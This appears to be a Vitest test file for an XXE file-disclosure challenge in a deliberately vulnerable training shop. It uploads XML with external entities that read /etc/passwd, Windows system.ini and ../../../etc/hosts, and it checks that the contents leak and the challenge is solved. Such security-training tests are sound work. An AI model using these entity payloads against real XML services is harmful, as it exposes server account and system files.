import { beforeEach, describe, expect, it } from "vitest";
import { isSolved, resetInstance } from "../support/instance";
import { customerToken, upload } from "../support/uploads";

const withEntity = (systemId: string, root = "complaint") =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [\n  <!ENTITY leak SYSTEM "${systemId}">\n]>\n<${root}><text>&leak;</text></${root}>\n`;

const sendXml = async (content: string, name = "complaint.xml") => upload(await customerToken(), { name, content, type: "text/xml" });

describe("xxeFileDisclosureChallenge: external entities read the server's files", () => {
  beforeEach(resetInstance);

  it("an entity naming file:///etc/passwd shows the accounts and solves it", async () => {
    const response = await sendXml(withEntity("file:///etc/passwd"));
    expect(response.status).toBe(410);
    const { parsed } = await response.json();
    expect(parsed).toMatch(/<text>root:x:0:0:root:\/root:\/bin\/bash\n/);
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(true);
  });

  it("the Windows way works too: file:///C:/Windows/system.ini", async () => {
    const response = await sendXml(withEntity("file:///C:/Windows/system.ini", "order"));
    expect(response.status).toBe(410);
    expect((await response.json()).parsed).toContain("[drivers]");
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(true);
  });

  it("and so does a relative path climbing out of the upload folder", async () => {
    const response = await sendXml(withEntity("../../../etc/hosts"));
    expect((await response.json()).parsed).toContain("localhost");
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(true);
  });

  it("reading the shop's own files, missing files or web addresses does not solve it", async () => {
    const terms = await sendXml(withEntity("file:///ftp/legal.md"));
    expect(terms.status).toBe(410);
    expect((await terms.json()).parsed).toContain("# Terms of Use");
    for (const id of ["file:///etc/shadow", "http://127.0.0.1:1/etc/passwd", "https://example.com/passwd"]) {
      const response = await sendXml(withEntity(id));
      expect(response.status).toBe(410);
      expect((await response.json()).parsed).toContain("<text/>");
    }
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(false);
  });

  it("typing the file's lines into the document yourself does not solve it", async () => {
    const response = await sendXml("<complaint>root:x:0:0:root:/root:/bin/bash</complaint>");
    expect(response.status).toBe(410);
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(false);
  });
});
